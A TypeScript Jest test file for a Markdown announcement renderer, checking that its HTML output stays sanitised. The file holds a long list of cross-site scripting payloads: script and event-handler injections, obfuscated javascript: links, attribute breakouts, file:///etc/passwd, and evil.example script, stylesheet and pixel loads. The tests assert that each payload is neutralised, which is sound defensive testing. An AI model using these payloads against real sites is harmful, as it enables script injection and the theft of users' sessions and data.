import { describe, expect, test } from '@jest/globals';
import fc from 'fast-check';
import { renderMarkdown } from './announcement.markdown.ts';

/** All that an announcement may ever be made of; an attribute that is not written here is not allowed. */
const allowedTags = new RegExp(
  [
    '</?(?:p|em|strong|s|ul|ol|li|blockquote|pre|code|h[3-6])>',
    '<(?:br|hr) />',
    '<ol start="\\d+">',
    '<code class="language-[^"<>]*">',
    '<a href="(?:https?://|mailto:)[^"<>\\s]*"(?: title="[^"<>]*")? rel="noopener noreferrer nofollow" target="_blank">',
    '</a>',
  ].join('|'),
  'gi',
);

/** What is left of the HTML without its allowed tags: text, in which no tag can begin or end. */
const textOf = (html: string): string => html.replace(allowedTags, '');

const payloads: readonly string[] = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="data:text/html,<script>alert(1)</script>">',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<form action="javascript:alert(1)"><button>go</button></form>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="https://ok.example" onclick="alert(1)">x</a>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css";</style>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<<script>alert(1)//<</script>',
  '<script\n>alert(1)</script\n>',
  '</p><script>alert(1)</script><p>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](&#x6A;avascript&colon;alert(1))',
  '[x](java&Tab;script:alert(1))',
  '[x](<java\tscript:alert(1)>)',
  '[x](\u0001javascript:alert(1))',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](data:image/svg+xml,<svg onload=alert(1)>)',
  '[x](file:///etc/passwd)',
  '[x](//evil.example)',
  '[x](/logout)',
  '[x](https:javascript:alert(1))',
  '[x](blob:https://evil.example/1)',
  '[x](https://a.example/"onmouseover="alert(1))',
  '[x](https://a.example "x\\" onmouseover=\\"alert(1)")',
  '[x](https://a.example \'x" onmouseover=alert(1) y="\')',
  '[x](https://a.example/<script>alert(1)</script>)',
  '[x][1]\n\n[1]: javascript:alert(1)',
  '[x][1]\n\n[1]: https://a.example "\\"><script>alert(1)</script>"',
  '<javascript:alert(1)>',
  '<https://a.example/"onclick=alert(1)>',
  'https://a.example/"><script>alert(1)</script>',
  'javascript:alert(1)',
  '![x](https://evil.example/pixel.png)',
  '![x](javascript:alert(1))',
  '![x"onerror="alert(1)](https://evil.example/pixel.png)',
  '![x][1]\n\n[1]: https://evil.example/pixel.png',
  '```"><script>alert(1)</script>\nx\n```',
  '~~~a onmouseover=alert(1)\n<b>x</b>\n~~~',
  '`<script>alert(1)</script>`',
  '    <script>alert(1)</script>',
  '# <img src=x onerror=alert(1)>',
  '> <script>alert(1)</script>',
  '- <svg/onload=alert(1)>',
  '**<b onclick=alert(1)>x</b>**',
  '\\<script>alert(1)</script>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
];

describe('an announcement that means harm', () => {
  test.each(payloads.map((payload) => [payload]))('%j becomes harmless HTML', (payload) => {
    expect(textOf(renderMarkdown(payload))).not.toMatch(/[<>]/);
  });

  test('there are at least forty such attempts, none of them twice', () => {
    expect(new Set(payloads).size).toBeGreaterThanOrEqual(40);
    expect(new Set(payloads).size).toBe(payloads.length);
  });

  test('pieces of such attempts are harmless in any order', () => {
    const pieces = [
      '<',
      '>',
      '"',
      "'",
      '`',
      '[',
      ']',
      '(',
      ')',
      '!',
      ':',
      '\\',
      '\n',
      ' ',
      '&#60;',
      '&quot;',
      '*',
      '_',
      '#',
    ];
    const words = [
      'script',
      'a href=',
      'javascript:alert(1)',
      'https://a.example',
      'onerror=',
      '[1]: ',
      '```',
      'data:',
      '<!--',
    ];
    fc.assert(
      fc.property(fc.array(fc.constantFrom(...pieces, ...words), { maxLength: 40 }), (parts) => {
        expect(textOf(renderMarkdown(parts.join('')))).not.toMatch(/[<>]/);
      }),
      { numRuns: 2_000 },
    );
  });
});

describe('an announcement in Markdown', () => {
  test('shows emphasis, lists, quotes, code and line breaks', () => {
    const html = renderMarkdown('**新套餐** _now_ ~~old~~ `x`\n第二行\n\n- 一\n- 二\n\n> quote\n\n3. third');
    expect(html).toContain('<strong>新套餐</strong> <em>now</em> <s>old</s> <code>x</code><br />\n第二行');
    expect(html).toContain('<li>一</li>\n<li>二</li>');
    expect(html).toContain('<blockquote>\n<p>quote</p>\n</blockquote>');
    expect(html).toContain('<ol start="3">');
  });

  test('begins its headings below those of the page', () => {
    expect(renderMarkdown('# a\n\n## b\n\n###### c')).toBe('<h3>a</h3>\n<h4>b</h4>\n<h6>c</h6>\n');
  });

  test.each([
    ['[site](https://a.example/?a=1&b=2)', 'https://a.example/?a=1&amp;b=2', 'site'],
    ['[site](http://a.example)', 'http://a.example', 'site'],
    ['[mail](mailto:help@a.example)', 'mailto:help@a.example', 'mail'],
    ['https://a.example/会议', 'https://a.example/%E4%BC%9A%E8%AE%AE', 'https://a.example/会议'],
  ])('%s is a link that opens apart and tells nothing of where it was', (source, href, label) => {
    const link = `<a href="${href}" rel="noopener noreferrer nofollow" target="_blank">${label}</a>`;
    expect(renderMarkdown(source)).toBe(`<p>${link}</p>\n`);
  });

  test('shows HTML as the text that it is', () => {
    expect(renderMarkdown('a <b>c</b>')).toBe('<p>a &lt;b&gt;c&lt;/b&gt;</p>\n');
  });

  test('loads no image', () => {
    expect(renderMarkdown('![logo](https://a.example/x.png)')).not.toContain('<img');
  });

  test('leaves what only looks like an address as text', () => {
    expect(renderMarkdown('example.com a@b.example')).toBe('<p>example.com a@b.example</p>\n');
  });
});
